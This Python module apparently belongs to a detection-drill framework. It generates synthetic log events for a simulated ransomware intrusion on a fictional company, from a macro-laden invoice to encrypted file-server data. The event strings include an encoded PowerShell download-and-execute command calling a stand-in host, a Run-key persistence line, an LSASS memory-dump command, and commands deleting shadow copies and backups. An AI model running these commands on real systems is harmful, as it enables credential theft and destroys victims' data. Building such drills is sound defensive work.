"""A macro in a mailed document opens the way: PowerShell, LSASS, the file server, and at the end a ransom note."""

from __future__ import annotations

from base64 import b64encode

from ringfence.drills.background.desk import IMAGES
from ringfence.drills.background.scene import SYSTEM_USER
from ringfence.drills.model import Host, Person
from ringfence.drills.scenarios.stage import Stage
from ringfence.drills.sources import network, sysmon, windows
from ringfence.drills.sources.sysmon import Process

VICTIM = "amara.okafor"
STOLEN = "erik.johansson"
"""The administrator whose password was still in the memory of the victim's machine."""
STAGING = "198.51.100.220"
STAGING_NAME = "invoices.example.org"
SYSTEM32 = "C:\\Windows\\System32"
SERVICE = "kxwzqtme"
FILES = 420


def play(stage: Stage) -> None:
    """Play the whole attack, from the mailbox to the file server."""
    victim = stage.company.person(VICTIM)
    host = stage.company.host(victim.workstation)
    shell = _open_document(stage, host, victim)
    _call_home(stage, host, victim, shell)
    _dump_credentials(stage, host, victim, shell)
    _move(stage, host)
    service = _run_service(stage)
    _destroy(stage, service)


def _open_document(stage: Stage, host: Host, victim: Person) -> Process:
    document = f"C:\\Users\\{victim.login}\\Downloads\\Invoice-20934.docm"
    word = Process(IMAGES["word"], f'"{IMAGES["word"]}" /n "{document}"', victim.account, 6204, born=stage.now)
    outlook = Process(IMAGES["outlook"], f'"{IMAGES["outlook"]}"', victim.account, 5012, born=stage.now - 1)
    stage.step("T1566.001", "initial-access", "A mailed document with a macro is opened", host.name, victim.login)
    stage.emit(sysmon.created_file(stage.now, host, outlook, path=document))
    stage.emit(sysmon.started(stage.wait(8), host, word))
    stage.emit(sysmon.loaded(stage.wait(2), host, word, image="C:\\Program Files\\Common Files\\VBE7.DLL"))
    stage.wait(5)
    stage.step("T1204.002", "execution", "The macro starts PowerShell from Word", host.name, victim.login)
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{STAGING_NAME}/a.ps1')"
    encoded = b64encode(script.encode("utf-16-le")).decode()
    image = IMAGES["powershell"]
    command = f"powershell.exe -NoP -NonI -W Hidden -Enc {encoded}"
    shell = Process(image, command, victim.account, 7340, word.image, word.command, word.pid, born=stage.now)
    stage.emit(sysmon.started(stage.now, host, shell))
    stage.emit(
        windows.process_created(
            stage.wait(0.01), host, victim, image=image, command=command, parent=word.image, pid=7340, logon_id=0x4F2A1
        )
    )
    stage.emit(windows.script_block(stage.wait(0.5), host, victim, text=script))
    return shell


def _call_home(stage: Stage, host: Host, victim: Person, shell: Process) -> None:
    sensor = stage.company.host("sensor01")
    stage.wait(1)
    stage.step("T1105", "command-and-control", "The script fetches its tools", host.name, STAGING, STAGING_NAME)
    stage.emit(sysmon.asked_dns(stage.now, host, shell, name=STAGING_NAME, answer=STAGING))
    stage.emit(
        network.dns(stage.wait(0.01), sensor, src=host.ip, server="10.20.1.10", name=STAGING_NAME, answer=STAGING)
    )
    stage.emit(sysmon.connected(stage.wait(0.1), host, shell, to=STAGING, port=80, name=STAGING_NAME))
    stage.emit(
        network.http(
            stage.wait(0.1),
            sensor,
            src=host.ip,
            dst=STAGING,
            name=STAGING_NAME,
            uri="/a.ps1",
            status=200,
            size=48_211,
            agent="Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1",
        )
    )
    stage.emit(
        sysmon.set_registry(
            stage.wait(30),
            host,
            shell,
            key=f"HKU\\{victim.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync",
            value=f'powershell.exe -w hidden -c "iex(gc C:\\Users\\{victim.login}\\AppData\\Local\\Temp\\s.txt)"',
        )
    )


def _dump_credentials(stage: Stage, host: Host, victim: Person, shell: Process) -> None:
    stage.wait(180)
    stage.step("T1003.001", "credential-access", "The memory of LSASS is written to a file", host.name, STOLEN)
    dump = f"C:\\Users\\{victim.login}\\AppData\\Local\\Temp\\d.bin"
    command = f"rundll32.exe {SYSTEM32}\\comsvcs.dll, MiniDump 712 {dump} full"
    tool = Process(
        f"{SYSTEM32}\\rundll32.exe", command, victim.account, 8108, shell.image, shell.command, shell.pid, "High",
        "RUNDLL32.EXE", born=stage.now,
    )  # fmt: skip
    lsass = Process(f"{SYSTEM32}\\lsass.exe", f"{SYSTEM32}\\lsass.exe", SYSTEM_USER, 712)
    stage.emit(sysmon.started(stage.now, host, tool))
    trace = f"{SYSTEM32}\\ntdll.dll+9d4c4|{SYSTEM32}\\dbgcore.DLL+6d7d|{SYSTEM32}\\comsvcs.dll+25c0"
    stage.emit(sysmon.opened_process(stage.wait(0.2), host, tool, lsass, access="0x1FFFFF", trace=trace))
    stage.emit(sysmon.created_file(stage.wait(0.2), host, tool, path=dump))
    stage.emit(
        windows.malware_found(
            stage.wait(2), host, victim, threat="HackTool:Win32/DumpLsass.Example", path=dump, process=tool.image
        )
    )


def _move(stage: Stage, host: Host) -> None:
    company = stage.company
    target, admin = company.host("fs01"), company.person(STOLEN)
    stage.wait(420)
    stage.step("T1021.002", "lateral-movement", "Over ADMIN$ to the file server", host.name, target.name, STOLEN)
    stage.emit(
        windows.logon(
            stage.now,
            target,
            admin,
            kind=3,
            ip=host.ip,
            logon_id=0xD0D0D0,
            workstation=host.name.upper(),
            package="NTLM",
        )
    )
    stage.emit(windows.special_privileges(stage.wait(0.01), target, admin, logon_id=0xD0D0D0))
    stage.emit(
        windows.share(
            stage.wait(0.1), target, admin, ip=host.ip, name="ADMIN$", path="\\??\\C:\\Windows", logon_id=0xD0D0D0
        )
    )
    stage.emit(
        windows.share(
            stage.wait(0.1),
            target,
            admin,
            ip=host.ip,
            name="ADMIN$",
            path="\\??\\C:\\Windows",
            logon_id=0xD0D0D0,
            file=f"Temp\\{SERVICE}.exe",
        )
    )


def _run_service(stage: Stage) -> Process:
    target = stage.company.host("fs01")
    stage.wait(2)
    stage.step("T1569.002", "execution", "A service with a random name runs the tool as SYSTEM", target.name, SERVICE)
    path = f"C:\\Windows\\Temp\\{SERVICE}.exe"
    stage.emit(windows.service_installed(stage.now, target, name=SERVICE, path=f"%SystemRoot%\\Temp\\{SERVICE}.exe"))
    service = Process(
        path, path, SYSTEM_USER, 9120, f"{SYSTEM32}\\services.exe", f"{SYSTEM32}\\services.exe", 680, "System",
        born=stage.now,
    )  # fmt: skip
    stage.emit(sysmon.started(stage.wait(0.3), target, service))
    stage.wait(20)
    stage.step("T1055", "defense-evasion", "The tool starts a thread in spoolsv.exe", target.name)
    spooler = Process(f"{SYSTEM32}\\spoolsv.exe", f"{SYSTEM32}\\spoolsv.exe", SYSTEM_USER, 2204)
    stage.emit(sysmon.thread_injected(stage.now, target, service, spooler))
    return service


def _destroy(stage: Stage, service: Process) -> None:
    company = stage.company
    target, admin = company.host("fs01"), company.person(STOLEN)
    stage.wait(300)
    stage.step("T1490", "impact", "Shadow copies and boot recovery are removed", target.name)
    for number, command in enumerate((
        "vssadmin.exe delete shadows /all /quiet",
        "bcdedit.exe /set {default} recoveryenabled no",
        "wbadmin.exe delete catalog -quiet",
    )):  # fmt: skip
        image = f"{SYSTEM32}\\{command.split()[0]}"
        tool = Process(
            image, command, SYSTEM_USER, 9200 + 4 * number, service.image, service.command, service.pid, "System",
            born=stage.now,
        )  # fmt: skip
        stage.emit(sysmon.started(stage.wait(1), target, tool))
    stage.wait(5)
    stage.step("T1486", "impact", f"{FILES} files are encrypted, each folder gets a ransom note", target.name)
    for number in range(FILES):
        folder = f"D:\\Data\\Projects\\{number // 60:02d}"
        if number % 60 == 0:
            note = f"{folder}\\HOW_TO_RECOVER_FILES.txt"
            stage.emit(sysmon.created_file(stage.wait(0.1), target, service, path=note))
        path = f"{folder}\\file-{number:04d}.xlsx.locked"
        stage.emit(sysmon.created_file(stage.wait(0.15), target, service, path=path))
    stage.wait(30)
    stage.step("T1070.001", "defense-evasion", "The security log is cleared", target.name, STOLEN)
    stage.emit(windows.log_cleared(stage.now, target, admin, logon_id=0xD0D0D0))
